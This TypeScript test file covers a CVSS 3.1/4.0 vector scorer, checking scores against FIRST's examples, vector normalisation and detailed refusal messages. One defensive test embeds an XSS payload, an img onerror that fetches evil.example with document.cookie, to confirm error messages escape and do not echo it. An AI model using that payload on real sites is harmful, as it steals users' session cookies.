/**
 * CVSS vectors: scored as FIRST's specification and examples score them, and refused, with what
 * is wrong, whenever they are not complete 3.1 or 4.0 vectors, since a triager's typo must not
 * become a stored severity.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ExitCode } from '../src/core/errors.ts';
import { caseSeverity, CvssError, scoreVector, severityOf } from '../src/disclose/severity.ts';

/** Asserts the vector is refused with a CvssError whose message matches. */
function refuses(vector: string, message: RegExp): CvssError {
  let caught: unknown;
  try {
    scoreVector(vector);
  } catch (error) {
    caught = error;
  }
  assert.ok(caught instanceof CvssError, `${vector.slice(0, 60)} was accepted`);
  assert.match(caught.message, message);
  return caught;
}

describe('CVSS 3.1 vectors score as the specification does', () => {
  // Base scores from the CVSS v3.1 specification's examples and FIRST's v4.0 examples document, which gives 3.1 scores beside them.
  const examples: [string, number, string][] = [
    ['CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', 9.8, 'critical'],
    // The Peloton leak: anyone on the network reads personal data, nothing more.
    ['CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', 7.5, 'high'],
    ['CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H', 8.1, 'high'],
    ['CVSS:3.1/AV:L/AC:H/PR:L/UI:N/S:U/C:H/I:H/A:H', 7.0, 'high'],
    ['CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N', 6.1, 'medium'],
    ['CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:L/I:N/A:N', 3.3, 'low'],
    ['CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:N', 0, 'none'],
  ];
  for (const [vector, score, severity] of examples) {
    it(`${vector} is ${score} ${severity}`, () => {
      const scored = scoreVector(vector);
      assert.deepEqual(scored, { version: '3.1', vector, score, severity, baseScore: score });
    });
  }

  it('refines the base score by temporal metrics (FIRST: 7.5 base, 7.0 with E:F/RL:O/RC:C)', () => {
    const scored = scoreVector('CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N/E:F/RL:O/RC:C');
    assert.equal(scored.baseScore, 7.5);
    assert.equal(scored.temporalScore, 7.0);
    assert.equal(scored.score, 7.0);
    assert.equal(scored.environmentalScore, undefined);
  });

  it('and by environmental metrics', () => {
    const scored = scoreVector('CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N/CR:H');
    assert.equal(scored.environmentalScore, 9.3);
    assert.equal(scored.score, 9.3);
    assert.equal(scored.severity, 'critical');
  });
});

describe('CVSS 4.0 vectors score as FIRST\'s examples document does', () => {
  const examples: [string, number, string][] = [
    ['CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N', 8.7, 'high'],
    ['CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N/E:A', 8.7, 'high'],
    ['CVSS:4.0/AV:L/AC:L/AT:P/PR:L/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N', 7.3, 'high'],
    ['CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:P/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N', 7.7, 'high'],
    ['CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:P/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N/E:U', 5.2, 'medium'],
    ['CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:N/VC:H/VI:L/VA:L/SC:N/SI:N/SA:N/CR:H/IR:L/AR:L/MAV:N/MAC:H/MVC:H/MVI:L/MVA:L', 8.1, 'high'],
    ['CVSS:4.0/AV:L/AC:L/AT:N/PR:N/UI:A/VC:L/VI:N/VA:N/SC:N/SI:N/SA:N', 4.6, 'medium'],
    ['CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:N/VI:N/VA:N/SC:N/SI:N/SA:N', 0, 'none'],
  ];
  for (const [vector, score, severity] of examples) {
    it(`${vector} is ${score} ${severity}`, () => {
      const scored = scoreVector(vector);
      assert.equal(scored.version, '4.0');
      assert.equal(scored.vector, vector);
      assert.equal(scored.score, score);
      assert.equal(scored.severity, severity);
    });
  }

  it('keeps the base metrics\' own score beside a threat-refined one', () => {
    assert.equal(scoreVector('CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:P/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N/E:U').baseScore, 7.7);
  });
});

describe('vectors are normalised for storage', () => {
  it('puts metrics in the specification\'s order and drops Not Defined ones', () => {
    const scored = scoreVector('  CVSS:3.1/A:N/I:N/C:H/S:U/UI:N/PR:N/AC:L/AV:N/RL:X/E:F  ');
    assert.equal(scored.vector, 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N/E:F');
  });

  it('lists a 4.0 vector\'s groups as 4.0 orders them: base, threat, environmental, supplemental', () => {
    const scored = scoreVector('CVSS:4.0/U:Amber/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N/CR:H/E:A/MSC:X');
    assert.equal(scored.vector, 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N/E:A/CR:H/U:Amber');
  });
});

describe('invalid vectors are refused with what is wrong', () => {
  it('a vector without its version prefix', () => {
    refuses('AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', /does not start with CVSS:3\.1\/ or CVSS:4\.0\/ \(it has no version prefix\)/);
  });

  it('a CVSS 3.0 vector, which the library would silently score as 3.1', () => {
    refuses('CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', /CVSS 3\.0 vectors are not accepted: rescore it as CVSS:3\.1/);
  });

  it('another version', () => {
    refuses('CVSS:2.0/AV:N/AC:L/Au:N/C:P/I:N/A:N', /CVSS version "2\.0" is not supported/);
    refuses('cvss:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', /does not start with CVSS:3\.1\//);
  });

  it('a missing mandatory base metric, naming it', () => {
    refuses('CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N', /missing the mandatory base metric A \(it needs all of AV, AC, PR, UI, S, C, I, A\)/);
    refuses('CVSS:4.0/AV:N/AC:L/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N', /missing the mandatory base metrics AT, SA/);
  });

  it('a base metric left Not Defined', () => {
    refuses('CVSS:3.1/AV:X/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', /metric AV has value "X" \(a base metric cannot be left Not Defined\); CVSS 3\.1 allows N, A, L, P/);
  });

  it('an unknown metric, and a metric of the other version', () => {
    refuses('CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N/ZZ:1', /unknown metric "ZZ" in a CVSS 3\.1 vector; CVSS 3\.1 has AV, AC/);
    refuses('CVSS:3.1/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N', /unknown metric "AT" in a CVSS 3\.1 vector/);
  });

  it('a lower-case metric name, saying so', () => {
    refuses('CVSS:3.1/av:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', /unknown metric "av".*metric names are upper case: AV/);
  });

  it('a bad value, listing the allowed ones', () => {
    refuses('CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N/MSC:S', /metric MSC has value "S"; CVSS 4\.0 allows X, H, L, N/);
  });

  it('a metric given twice, which the library would let the last one win', () => {
    refuses('CVSS:3.1/AV:N/AV:L/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', /gives metric AV twice/);
  });

  it('malformed parts', () => {
    refuses('CVSS:3.1/AV:N//AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', /an empty metric \(a doubled or trailing '\/'\)/);
    refuses('CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N/', /an empty metric/);
    refuses('CVSS:3.1/AV:N:L/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', /"AV:N:L", which is not METRIC:VALUE/);
    refuses('', /does not start with CVSS:3\.1\//);
  });

  it('with a stable code and the usage exit code', () => {
    const error = refuses('CVSS:3.1/AV:N', /missing/);
    assert.equal(error.code, 'ERR_CVSS');
    assert.equal(error.exitCode, ExitCode.Usage);
  });
});

describe('hostile input is refused without being echoed back', () => {
  it('a very long string: refused by its length, quoting a short prefix only', () => {
    const error = refuses(`CVSS:3.1/${'AV:N/'.repeat(10_000)}`, /is 50009 characters long; no vector is longer than 256/);
    assert.ok(error.message.length < 200, error.message);
  });

  it('HTML: quoted with its markup characters escaped, and cut short', () => {
    const payload = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">';
    for (const vector of [payload, `CVSS:3.1/${payload}`, `CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:${payload}`, `CVSS:${payload}/AV:N`]) {
      const error = refuses(vector, /./);
      assert.doesNotMatch(error.message, /[<>]/, error.message);
      assert.doesNotMatch(error.message, /document\.cookie/, error.message);
    }
  });
});

describe('severityOf names a score by the ranges CVSS 3.1 and 4.0 share', () => {
  it('at each boundary', () => {
    const ranges: [number, string][] = [[0, 'none'], [0.1, 'low'], [3.9, 'low'], [4, 'medium'], [6.9, 'medium'], [7, 'high'], [8.9, 'high'], [9, 'critical'], [10, 'critical']];
    for (const [score, severity] of ranges) assert.equal(severityOf(score), severity, String(score));
  });
});

describe('caseSeverity: the severity and score a case takes', () => {
  const v31 = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N';
  const v40 = 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N';

  it('from the 4.0 vector when both are given', () => {
    assert.deepEqual(caseSeverity({ cvss31: v31, cvss40: v40 }), { cvss31: v31, cvss40: v40, severity: 'high', score: 8.7 });
    const critical31 = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H';
    assert.equal(caseSeverity({ cvss31: critical31, cvss40: v40 }).severity, 'high', 'even when 3.1 says more');
  });

  it('from whichever vector is given', () => {
    assert.deepEqual(caseSeverity({ cvss31: v31, cvss40: null }), { cvss31: v31, cvss40: null, severity: 'high', score: 7.5 });
    assert.deepEqual(caseSeverity({ cvss31: null, cvss40: v40 }), { cvss31: null, cvss40: v40, severity: 'high', score: 8.7 });
  });

  it('none at all without vectors', () => {
    assert.deepEqual(caseSeverity({ cvss31: null, cvss40: null }), { cvss31: null, cvss40: null, severity: null, score: null });
  });

  it('with the vectors normalised for storage', () => {
    assert.equal(caseSeverity({ cvss31: 'CVSS:3.1/C:H/I:N/A:N/AV:N/AC:L/PR:N/UI:N/S:U', cvss40: null }).cvss31, v31);
  });

  it('refusing a vector of the other version in a field, or an invalid one', () => {
    assert.throws(() => caseSeverity({ cvss31: v40, cvss40: null }), { code: 'ERR_CVSS', message: /a CVSS 4\.0 vector was given where a CVSS 3\.1 vector belongs/ });
    assert.throws(() => caseSeverity({ cvss31: null, cvss40: v31 }), { code: 'ERR_CVSS', message: /a CVSS 3\.1 vector was given where a CVSS 4\.0 vector belongs/ });
    assert.throws(() => caseSeverity({ cvss31: v31, cvss40: 'CVSS:4.0/AV:N' }), CvssError);
  });
});
